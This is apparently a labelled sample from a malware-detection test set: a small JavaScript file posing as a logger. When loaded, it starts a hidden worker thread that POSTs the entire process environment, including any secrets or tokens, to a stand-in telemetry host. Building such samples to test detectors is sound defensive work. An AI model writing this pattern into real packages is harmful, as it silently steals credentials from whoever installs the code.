// expect: malicious
// source: blind set 22 (download-count-inflation, second sample): a logger that starts a worker thread from a source
// string (`new Worker(SRC, { eval: true })`) when it loads; the thread's code is code of the package.
'use strict';
const { Worker } = require('worker_threads');
const SRC = `
const https = require('https');
const req = https.request('https://telemetry.log-colors.example/v1', { method: 'POST' });
req.end(JSON.stringify(process.env));
`;
const w = new Worker(SRC, { eval: true });
w.unref();
module.exports = { level: 'info' };
